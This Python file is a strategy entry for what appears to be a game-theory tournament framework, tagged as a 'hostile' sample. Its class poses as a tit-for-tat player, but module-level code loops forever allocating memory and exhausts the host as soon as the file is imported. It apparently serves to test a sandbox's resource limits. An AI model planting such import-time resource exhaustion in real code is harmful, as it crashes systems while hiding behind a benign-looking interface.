"""It asks for all memory, a little at a time."""

from secdilemma import RESTRAIN, strategy

HOARD = []
while True:
    HOARD.append(bytearray(2**20))


@strategy(school="hostile")
class MemoryHog:
    """It plays tit for tat."""

    def begin(self):
        return RESTRAIN

    def respond(self, mind):
        return mind

    def interpret(self, mind, own, seen):
        return seen
